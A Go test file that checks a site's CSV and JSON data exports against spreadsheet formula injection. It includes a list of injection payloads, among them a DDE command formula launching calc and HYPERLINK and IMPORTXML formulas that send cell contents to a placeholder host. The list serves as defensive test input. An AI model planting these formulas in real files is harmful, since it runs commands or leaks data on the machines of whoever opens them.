package dataset

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"tract/internal/config"
	"tract/internal/content"
	"tract/internal/golden"
	"tract/internal/locale"
	"tract/internal/payload"
	"tract/internal/promise"
	"tract/internal/schema"
	"tract/internal/site"
)

// hostile are texts that mean something to a spreadsheet, to CSV or to JSON.
var hostile = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|'/c calc'!A1", `=HYPERLINK("http://x.example","y")`, "-2+3+cmd|'/c calc'!A1", "=\"=\"", "'=1", " =1",
	`a"b`, `""`, `"`, "a,b", "a;b", "a\nb", "a\r\nb", "a\rb", "a\tb", "\x00", "a\x00b", "\x1b[31m", "\x7f", "\u2028", "\u202eabc", "\u200f", "\ufeff", "e\u0301",
	"</script><script>", "<!--", "]]>", "&amp;", "{{.}}", "\\", "\\n", "\\u003c", "été « œuvre »", "مقاطعة", "🏴‍☠️", "", " ", "null", "1e9", "-1,5",
	"a;=1+1", "a; =1", "a\t=1", "a\n=1", "a\r\n@x", "\ufeff=1", "\x00=1", "\x1b=1", "\u0085=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "a;＝1", `";=1+1&"`, `",=1+1`, "\n-a\n-b", "a;;=1", "\t\t=1", ";=1", ";", "\t", "\xff=1", "=",
	"+cmd|' /C calc'!A0", `=IMPORTXML(CONCAT("http://x.example/",A2),"//a")`, "%0A=1", "=1;=1", "@", "-", "'", "''=1", "a;\"=1+1&\"\nb", "a;\"\"=1", ";\"+1\";\"@x\"", "a\n\"-1", "\"=1",
}

func text(s string) locale.Text { return locale.Text{"fr": s, "en": s} }

func ref(key string) schema.Ref { return schema.Ref{Key: key} }

// full gives a site that has one of everything, with s as each of its texts.
func full(s string) *site.Site {
	work := content.Source{Work: content.Work{Title: text(s), Publication: s, Authors: []string{s}, URL: "https://example.org/", Language: "en", Date: locale.Date{Year: 2025, Month: 2}}}
	article := content.Source{Article: ref("lessons")}
	return &site.Site{
		Common:   site.Common{Languages: []*site.Language{{Locale: &locale.Locale{Code: "fr"}}, {Locale: &locale.Locale{Code: "en"}}}},
		Settings: &config.Settings{Currency: "CAD"},
		Content: &content.Content{
			Documents: []*content.Document{
				{Common: content.Common{Kind: content.KindArticle, Key: "lessons", Language: "fr"}, Article: &content.Article{Source: work.Work}},
				{Common: content.Common{Kind: content.KindDemands, Key: "list", Language: "fr", Checked: locale.Date{Year: 2025, Month: 4, Day: 2}, Sources: []content.Source{article}}, Demands: &content.Demands{
					By: ref("csn"), To: []schema.Ref{ref("amazon")}, Items: []content.Demand{
						{ID: "one", Text: s, Status: "won", Since: locale.Date{Year: 2025}, To: []schema.Ref{ref("quebec"), ref("canada")}, Evidence: s, Sources: []content.Source{work}}, {ID: "two", Text: s},
					},
				}},
				{Common: content.Common{Kind: content.KindDemands, Key: "list", Language: "en"}, Demands: &content.Demands{By: ref("csn"), Items: []content.Demand{{ID: "one", Text: s + " in English"}}}},
				{Common: content.Common{Kind: content.KindDemands, Key: "goliath", Language: "fr"}, Demands: &content.Demands{By: ref("csn"), Opinion: true, Items: []content.Demand{{ID: "three", Text: s, Status: "open"}}}},
			},
			Data: content.Data{
				Checked: map[string]locale.Date{"figures.yaml": {Year: 2025, Month: 4, Day: 1}},
				Figures: []content.Figure{
					{Key: "jobs", Label: text(s), Format: "count", Unit: text(s), Topics: []schema.Ref{ref("work"), ref("law")}, Note: text(s), Values: []content.FigureValue{
						{Value: 4500, Qualifier: "over", Source: article, AsOf: locale.Date{Year: 2025, Month: 3, Day: 22}, Note: text(s)}, {Value: -0.5, Upper: 1e7, Source: work},
					}},
					{Key: "offer", Label: text(s), Format: "money", Currency: "USD", Values: []content.FigureValue{{Value: 0, Source: work}}},
					{Key: "reason", Label: text(s), Format: "text", Values: []content.FigureValue{{Text: text(s), Source: work}}},
				},
				Timeline:      []content.Moment{{ID: "closed", Date: locale.Date{Year: 2025}, Inferred: true, Text: text(s), Topics: []schema.Ref{ref("law")}, Sources: []content.Source{work, article}}},
				Organizations: []content.Organization{{Key: "csn", Name: text(s), Short: text(s), Type: "union", Role: text(s), Link: "https://example.org/", Endorses: []schema.Ref{ref("list")}}},
				Needs:         []content.Need{{ID: "books", Name: text(s), Options: []content.Option{{Name: text(s), Text: text(s)}}}},
				Objections:    []content.Objection{{Say: text(s), Answer: text(s), Sources: []content.Source{article}}},
				Brands:        []content.Brand{{Name: text(s), Domains: []schema.Ref{ref("a.example"), ref("b.example")}, Text: text(s), Checked: locale.Date{Year: 2025, Month: 5, Day: 1}}},
				Shorteners:    []schema.Ref{ref("a.co")},
				Glossary:      []content.Term{{Key: "salting", Term: text(s), Definition: text(s), Sources: []content.Source{work}}},
			},
		},
	}
}

// TestX17Tables puts each text into every field of every set. No cell begins with what
// makes a formula, nor does a part that a spreadsheet in French makes a cell of, and
// both forms come back whole.
func TestX17Tables(t *testing.T) {
	cases := 0
	each := 16
	if promise.Whole() {
		each = 1
	}
	for _, s := range slices.Concat(hostile, payload.Texts(t, each)) {
		cases += judge(t, s)
	}
	promise.Held(t, cases)
}

// FuzzCSV does so with any text.
func FuzzCSV(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		judge(t, s)
		golden.Bounded(t, 2*time.Second, 200*len(s)+10_000, func() int {
			made := 0
			for _, set := range Sets(full(s)) {
				src, _ := set.CSV() // judge knows of the error
				made += len(src)
			}
			return made
		})
		if got := harmless(s); len(got) > 3*len(s)+1 {
			t.Errorf("%d bytes became %d", len(s), len(got))
		}
	})
}

// judge makes all sets of a site with s as each of its texts, and gives their number.
func judge(t *testing.T, s string) int {
	t.Helper()
	want, sets := Sets(full("x")), Sets(full(s))
	for i, set := range sets {
		wantRows, rows := cells(t, want[i]), cells(t, set)
		if len(rows) != len(wantRows) || len(rows[0]) != len(wantRows[0]) {
			t.Errorf("%q changes the shape of %s", s, set.Name)
		}
		for _, row := range rows {
			for _, cell := range row {
				if formula(cell) {
					t.Errorf("%q: %s has the cell %q", s, set.Name, cell)
				}
			}
		}
		if src, err := set.CSV(); err != nil || anywhere.Match(src) {
			t.Errorf("%q: %s begins a formula where another separator ends a cell: %q (%v)", s, set.Name, src, err)
		}
		src, err := set.JSON()
		if err != nil || !json.Valid(src) {
			t.Errorf("%q: %s: %v in %s", s, set.Name, err, src)
		}
	}
	return len(sets)
}

// formula says whether a spreadsheet takes a cell for a formula, past what it does not
// show.
func formula(cell string) bool {
	seen := strings.TrimFunc(cell, func(r rune) bool { return unicode.IsControl(r) || r == '\ufeff' })
	return strings.IndexAny(cell, "=+-@\t\r\n") == 0 || strings.HasPrefix(cell, seen) && strings.IndexAny(seen, "=+-@＝＋－＠") == 0
}

// anywhere finds a formula after whatever some spreadsheet ends a cell at, in a file
// whose quotation marks it takes for text.
var anywhere = regexp.MustCompile("[;\t\r\n]\"*[=+@＝＋－＠-]")

func cells(t *testing.T, set Set) [][]string {
	t.Helper()
	src, err := set.CSV()
	if err != nil {
		t.Fatal(err)
	}
	again, err := set.CSV()
	if err != nil || !bytes.Equal(src, again) {
		t.Errorf("%s writes other bytes the second time: %v", set.Name, err)
	}
	rows, err := csv.NewReader(bytes.NewReader(src)).ReadAll() // refuses rows of other lengths
	if err != nil {
		t.Fatalf("%s: %v in %q", set.Name, err, src)
	}
	return rows
}

// TestSets holds all data of a site to what it is as files.
func TestSets(t *testing.T) {
	var got strings.Builder
	for _, set := range Sets(full("Mot")) {
		for _, row := range cells(t, set) {
			got.WriteString(set.Name + ": " + strings.Join(row, "|") + "\n")
		}
	}
	want := `figures: key|label_fr|label_en|format|currency|qualifier|value|upper|unit_fr|unit_en|text_fr|text_en|topics|source|as_of|note_fr|note_en
figures: jobs|Mot|Mot|count||over|4500||Mot|Mot|||work; law|lessons|2025-03-22|Mot|Mot
figures: jobs|Mot|Mot|count|||'-0.5|10000000|Mot|Mot|||work; law|Mot|||
figures: offer|Mot|Mot|money|USD||0|||||||Mot|||
figures: reason|Mot|Mot|text|||||||Mot|Mot||Mot|||
timeline: id|date|inferred|text_fr|text_en|topics|sources
timeline: closed|2025|yes|Mot|Mot|law|Mot; lessons
organizations: key|name_fr|name_en|short_fr|short_en|type|role_fr|role_en|link|checked|endorses|sources
organizations: csn|Mot|Mot|Mot|Mot|union|Mot|Mot|https://example.org/||list|
demands: id|list|by|to|opinion|tally|text_fr|text_en|status|since|evidence_fr|evidence_en|checked|sources
demands: one|list|csn|quebec; canada|no|yes|Mot|Mot in English|won|2025|Mot||2025-04-02|Mot
demands: two|list|csn|amazon|no|yes|Mot||open||||2025-04-02|lessons
demands: three|goliath|csn||yes|no|Mot|||||||
alternatives: need|name_fr|name_en|text_fr|text_en|link|checked
alternatives: books|Mot|Mot|Mot|Mot||
objections: say_fr|say_en|answer_fr|answer_en|sources
objections: Mot|Mot|Mot|Mot|lessons
boycott: kind|name_fr|name_en|domains|text_fr|text_en|checked
boycott: brand|Mot|Mot|a.example; b.example|Mot|Mot|2025-05-01
boycott: shortener|||a.co|||
glossary: key|term_fr|term_en|definition_fr|definition_en|sources
glossary: salting|Mot|Mot|Mot|Mot|Mot
`
	if diff := cmp.Diff(want, got.String()); diff != "" {
		t.Error(diff)
	}
	if sets := Sets(&site.Site{Settings: &config.Settings{}, Content: &content.Content{}}); len(sets) != 0 {
		t.Errorf("a site without data has %d sets", len(sets))
	}
}

func TestJSON(t *testing.T) {
	src, err := Sets(full("<Mot>"))[0].JSON()
	if err != nil {
		t.Fatal(err)
	}
	var set struct {
		Checked string
		Entries []figure
	}
	if err := json.Unmarshal(src, &set); err != nil {
		t.Fatal(err)
	}
	figures := set.Entries
	if set.Checked != "2025-04-01" {
		t.Errorf("the figures were checked on %q", set.Checked)
	}
	first := figures[0]
	if first.Key != "jobs" || first.Label["fr"] != "<Mot>" || len(first.Values) != 2 || *first.Values[0].Value != 4500 || first.Values[0].Source.Article != "lessons" || first.Values[0].Source.Title["en"] != "<Mot>" || len(first.Values[0].Source.Title) != 1 {
		t.Errorf("%+v", first)
	}
	if zero := figures[1].Values[0].Value; zero == nil || *zero != 0 {
		t.Error("a value of nothing is left out")
	}
	if figures[2].Values[0].Value != nil {
		t.Error("a text has a value")
	}
}

// TestTitles keeps the titles of a work that has several, and gives one that is the same
// for every reader once, under its own language.
func TestTitles(t *testing.T) {
	for _, c := range []struct {
		language    string
		given, want locale.Text
	}{
		{"", nil, nil},
		{"en", locale.Text{"fr": "Un"}, locale.Text{"fr": "Un"}},
		{"en", locale.Text{"fr": "Un", "en": "One"}, locale.Text{"fr": "Un", "en": "One"}},
		{"en", locale.Text{"fr": "One", "en": "One"}, locale.Text{"en": "One"}},
		{"", locale.Text{"fr": "One", "en": "One"}, locale.Text{"und": "One"}},
	} {
		got := title(content.Work{Title: c.given, Language: c.language})
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%v in %q: %s", c.given, c.language, diff)
		}
	}
}
